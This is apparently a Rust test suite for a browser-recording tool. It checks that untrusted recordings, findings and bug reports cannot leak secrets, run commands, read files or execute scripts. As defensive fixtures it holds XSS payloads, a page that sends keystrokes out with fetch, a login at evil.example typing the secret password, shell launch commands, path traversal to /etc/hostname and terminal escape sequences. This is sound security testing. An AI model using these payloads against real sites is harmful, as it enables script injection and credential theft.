//! Files from strangers are only files: a recording, a finding and a bug report that try to get at the secrets, the files, the
//! commands and the terminal of the user who opens them.

#[path = "../../../colobus-report/tests/all/hostile.rs"]
mod hostile;
pub mod site;

use std::fs;
use std::path::Path;
use std::process::{Command, Output};

use std::time::Duration;

use colobus_driver::{BrowserSource, WindowOptions, Windows};
use colobus_record::Viewport;
use serde_json::{Value, json};
use site::Site;
use tempfile::TempDir;

const SECRET: &str = "hunter2-and-more";

fn colobus(folder: &Path, arguments: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_colobus"))
        .args(arguments)
        .current_dir(folder)
        .env("COLOBUS_SECRET_PASSWORD", SECRET)
        .env("AWS_SECRET_ACCESS_KEY", "not-for-you")
        .output()
        .unwrap()
}

fn text(output: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
}

fn recording(folder: &Path, lines: &str) {
    fs::write(folder.join("session.rec"), format!("colobus-recording 1\nviewport 300x200\n{lines}")).unwrap();
}

/// A page that tells its own server whatever is typed into it.
const TELLS: &str = "<!doctype html><input id=a oninput=\"fetch('/told?' + encodeURIComponent(this.value))\">";

fn told(site: &Site) -> Vec<String> {
    site.asked().into_iter().filter(|path| path.starts_with("/told")).collect()
}

#[test]
fn a_recording_goes_only_where_the_user_says() {
    let folder = TempDir::new().unwrap();
    let folder = folder.path();
    let evil = Site::open(&[("/", TELLS)], "");
    let own = Site::open(&[("/", TELLS)], "");
    recording(
        folder,
        &format!("A open \"{}/\" +0\nA secret /html/body/input COLOBUS_SECRET_PASSWORD +0\n", evil.origin()),
    );

    let unnamed = colobus(folder, &["replay", "session.rec"]);
    assert_eq!(unnamed.status.code(), Some(2), "{}", text(&unnamed));
    assert!(text(&unnamed).contains(&format!("`--at {}` lets it", evil.origin())), "{}", text(&unnamed));
    assert_eq!(evil.asked(), Vec::<String>::new(), "nobody was asked anything");

    let named = colobus(folder, &["replay", "session.rec", "--at", &own.origin()]);
    assert_eq!(named.status.code(), Some(0), "{}", text(&named));
    // Each letter is a request of its own, and requests may overtake one another.
    assert!(told(&own).contains(&format!("/told?{SECRET}")), "{:?}", told(&own));
    assert_eq!(evil.asked(), Vec::<String>::new(), "what it names itself is not opened");

    let configuration = format!("[app]\nurl = \"{}/?doc={{doc}}\"\n", own.origin());
    let action = "[[action]]\nname = \"a\"\nsteps = [{ type = \"a\" }]\n";
    fs::write(folder.join("colobus.toml"), configuration + action).unwrap();
    let configured = colobus(folder, &["replay", "session.rec"]);
    assert_eq!(configured.status.code(), Some(0), "{}", text(&configured));
    assert_eq!(evil.asked(), Vec::<String>::new());
}

#[test]
fn a_page_elsewhere_gets_no_secret() {
    const AWAY: &str = "<!doctype html><a href=\"PEER/\" id=out>out</a><iframe src=\"PEER/\"></iframe>";
    let evil = Site::open(&[("/", TELLS)], "");
    let own = Site::open(&[("/", AWAY)], &evil.origin());
    let folder = TempDir::new().unwrap();
    let folder = folder.path();
    let open = format!("A open \"{}/\" +0\n", own.origin());
    let secret = "COLOBUS_SECRET_PASSWORD +0\n";

    recording(folder, &format!("{open}A secret /html/body/iframe=>/html/body/input {secret}"));
    let framed = colobus(folder, &["replay", "session.rec", "--at", &own.origin()]);
    let refusal = format!("COLOBUS_SECRET_PASSWORD is not given to {}", evil.origin());
    assert!(framed.status.code() == Some(1) && text(&framed).contains(&refusal), "{}", text(&framed));

    recording(folder, &format!("{open}A click //a 5,5 +0\nA arrive \"\" +0\nA secret /html/body/input {secret}"));
    let away = colobus(folder, &["replay", "session.rec", "--at", &own.origin()]);
    let refusal = format!("the page is {}/, which is not at {}", evil.origin(), own.origin());
    assert!(away.status.code() == Some(1) && text(&away).contains(&refusal), "{}", text(&away));

    recording(folder, &format!("{open}A open \"{}/\" +0\n", evil.origin()));
    let elsewhere = colobus(folder, &["replay", "session.rec", "--at", &own.origin()]);
    assert!(elsewhere.status.code() == Some(2) && text(&elsewhere).contains("line 2 opens"), "{}", text(&elsewhere));
    assert_eq!(told(&evil), Vec::<String>::new());
}

#[test]
fn other_variables_and_files_are_refused_before_anything_is_opened() {
    let folder = TempDir::new().unwrap();
    let folder = folder.path();
    for (line, refusal) in [
        ("secret /html/body/input AWS_SECRET_ACCESS_KEY", "`AWS_SECRET_ACCESS_KEY` is not asked for"),
        ("files /html/body/input \"/etc/hostname\"", "leads out of the recording's folder"),
        ("files /html/body/input \"../../etc/hostname\"", "leads out of the recording's folder"),
    ] {
        recording(folder, &format!("A open \"http://127.0.0.1:9/\" +0\nA {line} +0\n"));
        for command in
            [&["replay", "session.rec", "--at=http://127.0.0.1:9"][..], &["export", "session.rec", "--to=playwright"]]
        {
            let output = colobus(folder, command);
            assert!(output.status.code() == Some(2) && text(&output).contains(refusal), "{}", text(&output));
            assert!(!text(&output).contains("not-for-you"), "{}", text(&output));
        }
    }
}

/// A finding that somebody sent, with these parts of its application.
fn finding(folder: &Path, parts: Value) -> String {
    let mut application = json!({
        "url": "http://127.0.0.1:9/?doc={doc}", "launch": null, "reset": "fresh_document", "hosts": [], "ready": null,
        "focus": null, "caret": "untouched", "ignore": [], "css": "", "freeze_animations": true, "state": null,
        "viewport": { "width": 20, "height": 20 },
        "settle": { "quiet_ms": 0, "timers_ms": 0, "fixed_ms": null, "limit_ms": 0 }
    });
    for (name, value) in parts.as_object().unwrap() {
        application[name] = value.clone();
    }
    let action = |name: &str| json!({ "name": name, "steps": [{ "type": name }] });
    let trace = json!({
        "version": 1, "application": application,
        "interaction": { "prefix": [], "concurrent": [action("a"), action("b")] },
        "schedule": "A1 B1 ~", "judged_by": ["dom"], "observations": [], "known_errors": [], "outcome": "completed"
    });
    fs::write(folder.join("trace.json"), trace.to_string()).unwrap();
    "trace.json".to_string()
}

#[test]
fn commands_and_requests_of_a_finding_are_shown_and_not_run() {
    let folder = TempDir::new().unwrap();
    let folder = folder.path();
    let canary = Site::open(&[], "");
    let proof = folder.join("proof");
    let command = json!(["sh", "-c", format!("touch {}", proof.display())]);
    let launch = json!({ "command": command, "directory": ".", "environment": {}, "wait_for": { "port": 9 }, "timeout_ms": 1000 });
    for (parts, shown) in [
        (json!({ "launch": launch }), format!("  start: sh -c touch {}", proof.display())),
        (
            json!({ "reset": { "command": { "command": command, "directory": "." } } }),
            "  reset: sh -c touch".to_string(),
        ),
        (
            json!({ "reset": { "request": { "method": "POST", "url": format!("{}/delete", canary.origin()), "body": "" } } }),
            format!("  reset: POST {}/delete", canary.origin()),
        ),
        (json!({ "hosts": ["intranet.example:*"] }), "  hosts: intranet.example:*".to_string()),
    ] {
        let trace = finding(folder, parts);
        for command in [&["replay", &trace][..], &["export", &trace, "--to=playwright"]] {
            let output = colobus(folder, command);
            assert_eq!(output.status.code(), Some(2), "{}", text(&output));
            assert!(text(&output).contains(&shown) && text(&output).contains("--trust"), "{}", text(&output));
        }
        assert!(!proof.exists() && canary.asked().is_empty());
    }
    let trusted =
        colobus(folder, &["export", &finding(folder, json!({ "launch": launch })), "--to=playwright", "--trust"]);
    assert!(trusted.status.success(), "{}", text(&trusted));
}

#[test]
fn a_finding_of_the_users_own_application_needs_no_flag() {
    let folder = TempDir::new().unwrap();
    let folder = folder.path();
    let configuration = "[app]\nurl = \"http://127.0.0.1:9/?doc={doc}\"\nstart = \"serve --it\"\nhosts = [\"b.example\"]\n\
        [[action]]\nname = \"a\"\nsteps = [{ type = \"a\" }]\n";
    fs::write(folder.join("colobus.toml"), configuration).unwrap();
    let launch = |command: &[&str]| {
        json!({
            "command": command, "directory": folder, "environment": {}, "wait_for": { "port": 9 }, "timeout_ms": 60_000
        })
    };
    let export = |launch: Value, hosts: Value| {
        let trace = finding(folder, json!({ "launch": launch, "hosts": hosts }));
        let output = colobus(folder, &["export", &trace, "--to=playwright"]);
        (output.status.code(), text(&output))
    };
    let (code, said) = export(launch(&["serve", "--it"]), json!(["b.example"]));
    assert_eq!(code, Some(0), "{said}");
    let (code, said) = export(launch(&["serve", "--it", "--all"]), json!(["b.example"]));
    assert_eq!(code, Some(2), "{said}");
    let (code, said) = export(launch(&["serve", "--it"]), json!(["c.example"]));
    assert_eq!(code, Some(2), "{said}");

    let server = json!({ "launch": launch(&["serve", "--it"]), "hosts": ["b.example"], "server": "/dev/zero" });
    let trace = finding(folder, server);
    for command in [&["export", &trace, "--to=playwright"][..], &["replay", &trace]] {
        let output = colobus(folder, command);
        assert_eq!(output.status.code(), Some(2), "{}", text(&output));
        assert!(text(&output).contains("  server: /dev/zero\n"), "{}", text(&output));
    }
    let trusted = colobus(folder, &["replay", &trace, "--trust"]);
    assert_eq!(trusted.status.code(), Some(2), "{}", text(&trusted));
    assert!(text(&trusted).contains("it is not a regular file"), "{}", text(&trusted));
}

/// The built-in editor needs no flag, unless a finding adds logins or files to it that it does not have.
#[test]
fn the_built_in_editor_asks_for_no_secret_and_no_file() {
    let folder = TempDir::new().unwrap();
    let folder = folder.path();
    let command = json!([env!("CARGO_BIN_EXE_colobus"), "serve-demo", "--end-with-parent", "--port=9"]);
    let launch = json!({ "command": command, "directory": ".", "environment": {}, "wait_for": { "port": 9 }, "timeout_ms": 1000 });
    let export = |name: &str, value: Value| {
        let trace = finding(folder, json!({ "launch": launch, name: value }));
        let output = colobus(folder, &["export", &trace, "--to=playwright"]);
        (output.status.code(), text(&output))
    };
    let (code, said) = export("hosts", json!([]));
    assert_eq!(code, Some(0), "{said}");
    let typed =
        json!({ "steps": { "url": "http://evil.example/", "steps": [{ "type": "{COLOBUS_SECRET_PASSWORD}" }] } });
    for (name, value, shown) in [
        ("logins", json!([typed]), "  login of A, at http://evil.example/: type \"{COLOBUS_SECRET_PASSWORD}\""),
        ("logins", json!([{ "storage_state": "/etc/hostname" }]), "  login of A: /etc/hostname"),
        ("server", json!("/etc/hostname"), "  server: /etc/hostname"),
    ] {
        let (code, said) = export(name, value);
        assert!(code == Some(2) && said.contains(shown) && said.contains("--trust"), "{said}");
    }
}

#[test]
fn nothing_of_theirs_moves_the_cursor() {
    let folder = TempDir::new().unwrap();
    let folder = folder.path();
    let own = Site::open(&[("/", "<!doctype html><p>x")], "");
    let odd = "\\u001b[2J\\u202e\\u009b";
    recording(
        folder,
        &format!("A open \"{}/\" +0\nA click /html/body/b[@id=\"{odd}\"]{{label=\"{odd}\"}} 1,1 +0\n", own.origin()),
    );
    let raw = "\u{1b}[2J\u{202e}\u{9b}";
    let report = json!({
        "colobus_bug_report": 1, "note": raw, "recording": "", "versions": { "colobus": raw, "browser": raw, "system": raw }
    });
    fs::write(folder.join("a.bugreport"), report.to_string()).unwrap();
    fs::write(folder.join("broken.rec"), format!("colobus-recording 1\nviewport 1x1\nA {raw} +0\n")).unwrap();
    let trace = finding(folder, json!({ "hosts": [raw] }));
    for command in [
        &["replay", "session.rec", "--at", &own.origin()][..],
        &["open", "a.bugreport"],
        &["replay", "broken.rec"],
        &["replay", &trace],
        &["replay", raw],
        &["export", "session.rec", "--to=playwright"],
        &["export", "session.rec", "--to=recorder"],
        &["import", "a.bugreport"],
    ] {
        let said = text(&colobus(folder, command));
        let bad = said.chars().find(|c| colobus_model::foreign::is_deceptive(*c) && *c != '\n');
        assert_eq!(bad, None, "{command:?}: {said:?}");
        assert!(!said.is_empty());
    }
}

/// A page that repeats a password wherever it can.
const REPEATS: &str = "<!doctype html><style>* { font: 16px monospace; }</style><input type=password id=a>\
    <input id=copy><p>Your password is <span id=said></span></p><div id=host></div><iframe id=inner></iframe>\
    <script>const shadow = host.attachShadow({ mode: 'closed' }); a.oninput = () => { copy.value = said.textContent = a.value; \
    shadow.innerHTML = `<i></i>`; shadow.firstChild.textContent = a.value; \
    inner.contentDocument.body.innerHTML = `<b style=\"font: 16px monospace\"></b>`; inner.contentDocument.querySelector('b').textContent = a.value; \
    said.innerHTML = [...a.value].map((letter) => `<u>${letter}</u>`).join(''); document.title = a.value; }</script>";

#[test]
fn no_part_of_what_is_sent_has_a_secret() {
    let own = Site::open(&[("/", REPEATS)], "");
    let folder = TempDir::new().unwrap();
    let folder = folder.path();
    let send = |secret: &str, in_address: &str, picture: &[&str]| {
        recording(
            folder,
            &format!(
                "A open \"{0}/\" +0\nA secret /html/body/input[@id=\"a\"] COLOBUS_SECRET_PASSWORD +0\n\
                 A arrive \"{0}/?password={2}\" +0\nA insert /html/body/input[@id=\"copy\"] \"{1}\" +0\n",
                own.origin(),
                secret,
                in_address
            ),
        );
        let sent = Command::new(env!("CARGO_BIN_EXE_colobus"))
            .args([
                "send",
                "session.rec",
                "-o",
                "a.bugreport",
                "--at",
                &own.origin(),
                "--note",
                &format!("I am {secret}, {in_address}"),
            ])
            .args(picture)
            .current_dir(folder)
            .env("COLOBUS_SECRET_PASSWORD", secret)
            .output()
            .unwrap();
        assert!(sent.status.success(), "{}", text(&sent));
        let file = fs::read_to_string(folder.join("a.bugreport")).unwrap();
        assert!(!file.contains(secret) && !file.contains(in_address), "{file}");
        let opened = colobus(folder, &["open", "a.bugreport", "-o", "opened"]);
        assert!(opened.status.success(), "{}", text(&opened));
        for entry in fs::read_dir(folder.join("opened")).unwrap().flatten() {
            let bytes = fs::read(entry.path()).unwrap();
            let content = String::from_utf8_lossy(&bytes);
            assert!(!content.contains(secret) && !content.contains(in_address), "{:?}", entry.path());
        }
        let session = fs::read_to_string(folder.join("opened/session.rec")).unwrap();
        assert!(session.contains("/?password=$COLOBUS_SECRET_PASSWORD\""), "{session}");
        assert!(text(&opened).starts_with("I am $COLOBUS_SECRET_PASSWORD, $COLOBUS_SECRET_PASSWORD\n"));
    };
    let picture_with = |secret: &str, in_address: &str| {
        send(secret, in_address, &[]);
        fs::read(folder.join("opened/page.png")).unwrap()
    };
    // A picture that is the same whatever the secret shows nothing of it.
    assert_eq!(
        picture_with("aaaa-bbbb-cccc", "aaaa-bbbb-cccc"),
        picture_with("wxyz-WXYZ-@@@@", "wxyz-WXYZ-%40%40%40%40")
    );
    for in_address in [
        // encodeURIComponent, URLSearchParams, and a program that escapes all and in lower case.
        "P%40ss%20w0rd!~*'()",
        "P%40ss+w0rd%21%7E*%27%28%29",
        "P%40ss%20w0rd%21%7e%2a%27%28%29",
    ] {
        send("P@ss w0rd!~*'()", in_address, &["--no-picture"]);
    }
}

/// Says its own markup wherever a report could show it, and asks the canary from there.
const HOSTILE: &str = "<!doctype html><title></script><script>pwned = 1</script></title><body id='\"><img src=PEER/id>'>\
    <textarea autofocus></textarea><p>&lt;/script&gt;&lt;img src=PEER/text onerror=\"globalThis.pwned = 1\"&gt;</p>\
    <script>const payload = '</scr' + 'ipt><img src=PEER/said onerror=\"globalThis.pwned = 1\">{{constructor.constructor(`fetch(\\'PEER\\')`)()}}';\
    const field = document.querySelector('textarea'); field.setAttribute('aria-label', payload);\
    field.oninput = () => { const p = document.createElement('p'); p.textContent = payload + field.value + Math.random(); \
    p.setAttribute('onclick', 'pwned = 1'); document.body.append(p); console.error(payload); \
    setTimeout(() => { throw new Error(payload); }); };</script>";

#[test]
fn a_report_of_a_hostile_page_is_only_a_page() {
    let canary = Site::open(&[], "");
    let hostile = Site::open(&[("/", HOSTILE)], &canary.origin());
    let folder = TempDir::new().unwrap();
    let folder = folder.path();
    let payload = format!("</script><img src={}/name onerror='pwned = 1'>", canary.origin());
    let action =
        |text: &str| format!("[[action]]\nname = {:?}\nsteps = [{{ type = {text:?} }}]\n", format!("{payload}{text}"));
    let configuration = format!("[app]\ntitle = {payload:?}\nurl = \"{}/?doc={{doc}}\"\n", hostile.origin());
    fs::write(folder.join("colobus.toml"), configuration + &action("a") + &action("b")).unwrap();
    let checked = colobus(folder, &["check", "--naive", "--depth=1", "--repeat=1", "--workers=1", "--judge=dom"]);
    assert_eq!(checked.status.code(), Some(1), "{}", text(&checked));
    assert_eq!(canary.asked(), Vec::<String>::new(), "the page under test does not reach another port");

    let windows = windows();
    let run = fs::canonicalize(folder.join("colobus-out/last")).unwrap();
    for file in ["report.html", "1/traffic.har", "1/client-A.png", "report.json", "junit.xml"] {
        opened(&windows, &run.join(file));
        let shows = "document.documentElement.textContent.length > 0 || document.images.length > 0";
        assert_eq!(evaluated(&windows, shows), Value::Bool(true), "{file} is shown");
    }
    assert_eq!(canary.asked(), Vec::<String>::new(), "no request leaves");
}

fn windows() -> Windows {
    let options = WindowOptions {
        browser: BrowserSource::Launched(None),
        headed: false,
        clients: 1,
        viewport: Some(Viewport { width: 800, height: 600 }),
        redact: Vec::new(),
        record: false,
        play: true,
        traffic: None,
        explore: None,
    };
    Windows::open(options).unwrap()
}

fn evaluated(windows: &Windows, script: &str) -> Value {
    windows.evaluate_all(script).unwrap().remove(0).1
}

/// Opens a file of a run, clicks everything in it, and sees that no script of a stranger has run.
fn opened(windows: &Windows, file: &Path) {
    windows.visit(&format!("file://{}", file.display())).unwrap();
    let click = "document.querySelectorAll('button, summary, [role=tab], a').forEach((part) => part.click())";
    windows.evaluate_all(click).unwrap();
    assert!(windows.settle(Duration::from_secs(20)));
    assert_eq!(evaluated(windows, "globalThis.pwned ?? null"), Value::Null, "{} runs a script", file.display());
}

/// Of `check`, `stumble`, `explore`, `race` and `reach`, with markup or an address of a script in every place that is not ours.
#[test]
fn report_pages_of_every_search_are_only_pages() {
    let canary = Site::open(&[], "");
    let folder = TempDir::new().unwrap();
    let folder = fs::canonicalize(folder.path()).unwrap();
    let windows = windows();
    let markup = format!("</script><img src={}/said onerror='globalThis.pwned = 1'>\"'", canary.origin());
    for text in [&markup, "javascript:globalThis.pwned = 1"] {
        for report in hostile::of_every_search(text) {
            colobus_report::write_files(&report, &folder).unwrap();
            opened(&windows, &folder.join("report.html"));
            let shown = format!("document.body.textContent.includes({})", Value::from(text));
            assert_eq!(evaluated(&windows, &shown), Value::Bool(true), "the page of {}", report.search.command());
        }
    }
    assert_eq!(canary.asked(), Vec::<String>::new(), "no request leaves");
}
